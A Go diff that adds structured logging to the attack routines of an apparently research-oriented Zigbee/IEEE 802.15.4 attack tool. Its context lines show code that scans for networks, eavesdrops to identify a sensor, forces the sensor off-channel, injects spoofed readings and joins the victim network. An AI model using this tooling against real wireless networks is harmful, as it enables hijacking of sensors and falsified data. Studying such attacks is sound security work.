@@ -12,6 +12,7 @@ import (
 	"wazabee/internal/core"
 	"wazabee/internal/dsp"
 	"wazabee/internal/ieee802154"
+	"wazabee/internal/obs"
 	"wazabee/internal/zigbee"
 )
 
@@ -46,6 +47,11 @@ type Tracker struct {
 	TX  *core.Transmitter
 	RX  *core.Receiver
 	Air Air
+
+	// Log receives one structured event per attack step (scan hit,
+	// sensor identified, channel change, spoofed reading); nil falls
+	// back to the process default logger.
+	Log *obs.Logger
 
 	seq uint8
 }
@@ -104,8 +110,13 @@ func (t *Tracker) ActiveScan(channels []int) (*NetworkInfo, error) {
 		if reply == nil || reply.Type != ieee802154.FrameBeacon {
 			continue
 		}
-		return &NetworkInfo{Channel: ch, PAN: reply.SrcPAN, Coordinator: reply.SrcAddr}, nil
+		info := &NetworkInfo{Channel: ch, PAN: reply.SrcPAN, Coordinator: reply.SrcAddr}
+		obs.OrLogger(t.Log).Info("attack", "active scan found network",
+			"channel", ch, "pan", fmt.Sprintf("%#04x", info.PAN),
+			"coordinator", fmt.Sprintf("%#04x", info.Coordinator))
+		return info, nil
 	}
+	obs.OrLogger(t.Log).Warn("attack", "active scan found no network", "channels", len(channels))
 	return nil, ErrScanFailed
 }
 
@@ -125,9 +136,12 @@ func (t *Tracker) Eavesdrop(info *NetworkInfo, maxPeriods int) (uint16, error) {
 			continue
 		}
 		if frame.DestPAN == info.PAN && frame.DestAddr == info.Coordinator {
+			obs.OrLogger(t.Log).Info("attack", "eavesdrop identified sensor",
+				"sensor", fmt.Sprintf("%#04x", frame.SrcAddr), "periods", i+1)
 			return frame.SrcAddr, nil
 		}
 	}
+	obs.OrLogger(t.Log).Warn("attack", "eavesdrop saw no sensor traffic", "periods", maxPeriods)
 	return 0, ErrNoSensorTraffic
 }
 
@@ -163,6 +177,8 @@ func (t *Tracker) InjectChannelChange(info *NetworkInfo, sensor uint16, newChann
 	if resp.Status != 0 {
 		return fmt.Errorf("attack: sensor rejected channel change (status %d)", resp.Status)
 	}
+	obs.OrLogger(t.Log).Info("attack", "sensor moved off-channel",
+		"sensor", fmt.Sprintf("%#04x", sensor), "new_channel", newChannel)
 	return nil
 }
 
@@ -181,6 +197,7 @@ func (t *Tracker) SpoofData(info *NetworkInfo, sensor uint16, value uint16) erro
 	if reply == nil || reply.Type != ieee802154.FrameAck || reply.Seq != t.seq {
 		return fmt.Errorf("attack: coordinator did not acknowledge spoofed reading")
 	}
+	obs.OrLogger(t.Log).Info("attack", "spoofed reading acknowledged", "value", value)
 	return nil
 }
 
@@ -208,6 +225,8 @@ func (t *Tracker) JoinNetwork(info *NetworkInfo) (uint16, error) {
 	if status != ieee802154.AssocStatusSuccess {
 		return 0, fmt.Errorf("attack: association denied (status %d)", status)
 	}
+	obs.OrLogger(t.Log).Info("attack", "joined victim network",
+		"assigned", fmt.Sprintf("%#04x", assigned))
 	return assigned, nil
 }
 
